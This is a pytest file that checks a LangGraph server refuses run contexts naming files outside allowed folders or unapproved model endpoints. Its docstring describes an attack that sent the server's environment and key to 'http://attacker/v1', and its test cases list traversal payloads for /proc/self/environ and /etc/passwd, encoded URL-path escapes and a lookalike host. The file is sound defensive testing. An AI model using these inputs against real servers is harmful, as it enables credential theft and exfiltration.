"""A run's context sent to the server (`graphs/studio.py`, the entry `langgraph.json` serves) names files only in
the server's `UNVEIL_FILE_ROOTS` and endpoints only those the server allows (`graphs/server_context.py`).

The attack these reproduce: `guard: "template=/proc/self/environ"` with `model: "openai:x@http://attacker/v1"`
made the server send its environment, with its custom-endpoint key, to the caller. The real `langgraph dev` run of
it is `tests/graphs/test_langgraph_dev.py::test_a_context_cannot_read_server_files_or_choose_an_endpoint`.
"""

from __future__ import annotations

import dataclasses
import json
import typing
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from graphs import studio
from graphs.context import ContextError
from graphs.ctd import CtdContext
from graphs.guard import GuardContext
from graphs.ipr import IPRContext
from graphs.server_context import FIELD_KINDS, check_server_context, field_kind
from graphs.tag import TagContext
from graphs.vanilla import VanillaContext

SERVED = {"tag": TagContext, "vanilla": VanillaContext, "guard": GuardContext, "ipr": IPRContext, "ctd": CtdContext}


@pytest.fixture
def roots(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A server whose one file folder is `tmp_path/allowed`, with no allowed base URL and no env model."""
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    monkeypatch.setenv("UNVEIL_FILE_ROOTS", str(allowed))
    for name in ("UNVEIL_ALLOWED_BASE_URLS", "UNVEIL_MODEL", "UNVEIL_GUARD_MODEL", "UNVEIL_MODERATION_SPEC"):
        monkeypatch.delenv(name, raising=False)
    return allowed


def test_every_text_field_of_every_served_context_has_a_kind() -> None:
    # A new field that names a file or an endpoint must be classified, or a run sent to the server cannot set it.
    served = json.loads(Path("langgraph.json").read_text(encoding="utf-8"))["graphs"]
    assert set(served) == set(SERVED)
    for cls in SERVED.values():
        hints = typing.get_type_hints(cls)
        for f in dataclasses.fields(cls):
            assert field_kind(f.name, hints[f.name], f.metadata) != "unknown", (cls.__name__, f.name)
    assert set(FIELD_KINDS) <= {f.name for cls in SERVED.values() for f in dataclasses.fields(cls)}


@pytest.mark.parametrize(
    "cls, settings",
    [
        (GuardContext, {"guard": "template=/proc/self/environ"}),
        (GuardContext, {"guard": "template=../../../../etc/passwd"}),
        (TagContext, {"model": "scripted:/etc/passwd"}),
        (TagContext, {"pair_judge_model": "transformers:/etc"}),
        (TagContext, {"model": "hf:Qwen/Qwen2.5-VL-3B-Instruct?adapter=/etc"}),
        (TagContext, {"model": "llamacpp:/etc/hostname"}),
        (TagContext, {"image_store": "/tmp/unveil-made-by-a-context"}),
        (IPRContext, {"q16_embeddings": "/proc/self/environ"}),
        (IPRContext, {"clip_model": "local-dir:/etc"}),
        (IPRContext, {"generator": "diffusers:/etc"}),
        (IPRContext, {"generator": "esd:CompVis/stable-diffusion-v1-4?unet=/etc/hostname"}),
        (CtdContext, {"blind_judge_models": ["scripted:/etc/passwd"]}),
    ],
)
def test_a_file_outside_the_server_folders_is_refused_naming_the_field(
    roots: Path, cls: type, settings: dict[str, Any]
) -> None:
    with pytest.raises(ContextError) as err:
        check_server_context(cls, settings)
    (name,) = settings
    assert str(err.value).startswith(f"{name}: ")
    assert "UNVEIL_FILE_ROOTS" in str(err.value)


def test_a_link_inside_the_folders_that_points_out_is_refused(roots: Path) -> None:
    (roots / "environ.txt").symlink_to("/proc/self/environ")
    with pytest.raises(ContextError, match="outside the folders"):
        check_server_context(GuardContext, {"guard": f"template={roots / 'environ.txt'}"})


def test_files_in_the_server_folders_are_used(roots: Path) -> None:
    (roots / "guard.txt").write_text("Say safe or unsafe.", encoding="utf-8")
    (roots / "script.json").write_text("{}", encoding="utf-8")
    check_server_context(
        GuardContext,
        {"guard": f"template={roots / 'guard.txt'}", "model": f"scripted:{roots / 'script.json'}?latency=0"},
    )
    check_server_context(TagContext, {"image_store": str(roots / "store"), "model": "openai:gpt-4.1"})
    check_server_context(IPRContext, {"generator": "diffusers:CompVis/stable-diffusion-v1-4", "clip_model": ""})


def test_a_fifo_or_a_device_in_the_folders_is_not_a_template(roots: Path) -> None:
    import os

    os.mkfifo(roots / "fifo.txt")
    (roots / "zero.txt").symlink_to(roots / "fifo.txt")
    for name in ("fifo.txt", "zero.txt"):
        with pytest.raises(ContextError, match="not a regular file"):
            check_server_context(GuardContext, {"guard": f"template={roots / name}"})


def test_only_the_endpoints_the_server_allows_may_be_named(roots: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ContextError, match=r"^model: base URL 'http://127.0.0.1:9/v1' is not one this server"):
        check_server_context(TagContext, {"model": "openai:x@http://127.0.0.1:9/v1"})
    with pytest.raises(ContextError, match="^moderation_spec: base URL"):
        check_server_context(CtdContext, {"moderation_spec": "openai:omni-moderation-latest@http://10.0.0.1/v1"})
    # The operator's own model server (set in the server's environment) stays usable, and so do listed ones.
    monkeypatch.setenv("UNVEIL_MODEL", "openai:m@http://127.0.0.1:8000/v1")
    monkeypatch.setenv("UNVEIL_ALLOWED_BASE_URLS", "https://vllm.example.org")
    check_server_context(TagContext, {"pair_judge_model": "openai:other@http://127.0.0.1:8000/v1/"})
    check_server_context(TagContext, {"model": "openai:m@https://vllm.example.org/v1"})
    for url in ("http://127.0.0.1:8001/v1", "http://127.0.0.1:8000/v2", "https://vllm.example.org.evil/v1"):
        with pytest.raises(ContextError, match="not one this server allows"):
            check_server_context(TagContext, {"model": f"openai:m@{url}"})


@pytest.mark.parametrize(
    "path",
    [
        "/v1/../../admin",
        "/v1/..",
        "/v1/./../admin",
        "/v1/%2e%2e/admin",
        "/v1/%2E%2E/%2e%2e/admin",
        "/v1/.%2e/admin",
        "/v1/%252e%252e/admin",
        "/v1%2f..%2fadmin",
        "/v1/..%5cadmin",
        "/v1/x/../../admin",
        "/../v1",
    ],
)
def test_an_allowed_path_is_a_boundary_after_normalisation(roots: Path, monkeypatch, path: str) -> None:
    """`/v1/../../admin` started with the allowed `/v1` and passed; a client resolves it to `/admin`."""
    monkeypatch.setenv("UNVEIL_ALLOWED_BASE_URLS", "http://127.0.0.1:8000/v1")
    with pytest.raises(ContextError, match="^model: base URL"):
        check_server_context(TagContext, {"model": f"openai:m@http://127.0.0.1:8000{path}"})


@pytest.mark.parametrize("path", ["/v1", "/v1/", "/v1/./chat", "/v1/x/../y", "/v1/%7Euser", "/v1//"])
def test_paths_that_stay_below_the_allowed_one_are_used(roots: Path, monkeypatch, path: str) -> None:
    monkeypatch.setenv("UNVEIL_ALLOWED_BASE_URLS", "http://127.0.0.1:8000/v1")
    check_server_context(TagContext, {"model": f"openai:m@http://127.0.0.1:8000{path}"})


def test_the_studio_entry_refuses_such_a_context_before_the_graph_runs(roots: Path) -> None:
    import asyncio

    runtime: Any = SimpleNamespace(context={"guard": "template=/proc/self/environ"})
    with pytest.raises(ContextError, match="^guard: "):
        asyncio.run(studio.guard(runtime))
    runtime = SimpleNamespace(context={"model": "openai:x@http://127.0.0.1:9/v1"})
    with pytest.raises(ContextError, match="^model: "):
        asyncio.run(studio.tag(runtime))
    assert asyncio.run(studio.tag(SimpleNamespace(context={"l_max": 2}))) is not None


def test_the_cli_and_python_callers_are_not_limited(roots: Path, tmp_path: Path) -> None:
    # The operator's own flags: a template anywhere still works outside the server entry.
    from agents.guard import get_guard

    template = tmp_path / "elsewhere.txt"
    template.write_text("Say safe or unsafe.", encoding="utf-8")
    assert get_guard(f"template={template}").instruction == "Say safe or unsafe."
    assert GuardContext(guard=f"template={template}").guard.endswith("elsewhere.txt")


def test_a_guard_template_is_read_capped_and_only_from_a_regular_file(tmp_path: Path) -> None:
    import os

    from agents.guard import get_guard
    from tools.safe_files import UnreadableFileError

    os.mkfifo(tmp_path / "fifo.txt")
    with pytest.raises(UnreadableFileError, match="not a regular file"):
        get_guard(f"template={tmp_path / 'fifo.txt'}")  # returns at once: the open does not block
    with pytest.raises(UnreadableFileError, match="not a regular file"):
        get_guard("template=/dev/zero")
    big = tmp_path / "big.txt"
    with big.open("wb") as fh:
        fh.truncate(2 * 1024 * 1024)  # sparse: 2 MiB of zeros on no disk
    with pytest.raises(UnreadableFileError, match="1,048,576-byte limit"):
        get_guard(f"template={big}")


def test_the_shipped_data_and_examples_may_be_named_and_nothing_else_of_the_repository(monkeypatch) -> None:
    from graphs.server_context import check_path
    from tools.datafiles import DATA_DIR

    monkeypatch.delenv("UNVEIL_FILE_ROOTS", raising=False)
    repo = DATA_DIR.parent
    assert check_path("model", str(repo / "examples" / "studio" / "tag-answers.json"), text_file=True)
    assert check_path("q16_embeddings", str(repo / "data" / "q16" / "vit-l-14.npy"))
    with pytest.raises(ContextError, match="outside the folders"):
        check_path("guard", str(repo / "README.md"), text_file=True)


# Every spelling of a guard template that the graph reads (`agents.guard.parse_guard`): the CLI's
# `--method guard:template=FILE`, the context's `template=FILE`, and the spaces either may carry. A check that read
# the value its own way let `guard:template=/proc/self/environ` through the real `langgraph dev`.
GUARD_SPELLINGS = (
    "template={}",
    "guard:template={}",
    " guard:template={} ",
    "guard: template={}",
    "  template= {}",
)


@pytest.mark.parametrize("spelling", GUARD_SPELLINGS)
def test_every_guard_spelling_the_graph_reads_is_checked_by_the_served_factory(
    roots: Path, spelling: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import asyncio

    import agents.guard as guard_module

    value = spelling.format("/proc/self/environ")
    # The graph reads this very file for the value: the check must see the same one.
    read: list[str] = []
    monkeypatch.setattr(guard_module, "load_template_guard", lambda path: read.append(path))
    guard_module.get_guard(value)
    assert read == ["/proc/self/environ"]
    runtime: Any = SimpleNamespace(context={"guard": value})
    with pytest.raises(ContextError, match="^guard: .*outside the folders"):
        asyncio.run(studio.guard(runtime))


@pytest.mark.parametrize("spelling", GUARD_SPELLINGS)
def test_every_guard_spelling_in_the_server_folders_is_served(roots: Path, spelling: str) -> None:
    import asyncio

    (roots / "guard.txt").write_text("Say safe or unsafe.", encoding="utf-8")
    runtime: Any = SimpleNamespace(context={"guard": spelling.format(roots / "guard.txt")})
    assert asyncio.run(studio.guard(runtime)) is not None


@pytest.mark.parametrize("value", ["guard:guard:template=/etc/passwd", "Template=/etc/passwd", "guard:nope"])
def test_a_guard_the_graph_cannot_read_is_refused_by_the_check_too(roots: Path, value: str) -> None:
    from agents.guard import get_guard
    from tools.env import SettingError

    with pytest.raises(SettingError, match="unknown guard"):
        get_guard(value)
    with pytest.raises(ContextError, match="^guard: unknown guard"):
        check_server_context(GuardContext, {"guard": value})


@pytest.mark.parametrize(
    "cls, settings",
    [
        # Read as the registry and the moderation scorer read them: spaces and repeated parameters included.
        (IPRContext, {"generator": " diffusers:/etc "}),
        (IPRContext, {"generator": "esd:CompVis/stable-diffusion-v1-4?unet=x&unet=/etc/hostname"}),
        (IPRContext, {"generator": "sd-np:a/b/../../../etc"}),
        (CtdContext, {"moderation_spec": " omni-moderation-latest @ http://10.0.0.1/v1 "}),
    ],
)
def test_other_fields_are_checked_as_their_consumers_parse_them(
    roots: Path, cls: type, settings: dict[str, Any]
) -> None:
    with pytest.raises(ContextError) as err:
        check_server_context(cls, settings)
    (name,) = settings
    assert str(err.value).startswith(f"{name}: ")
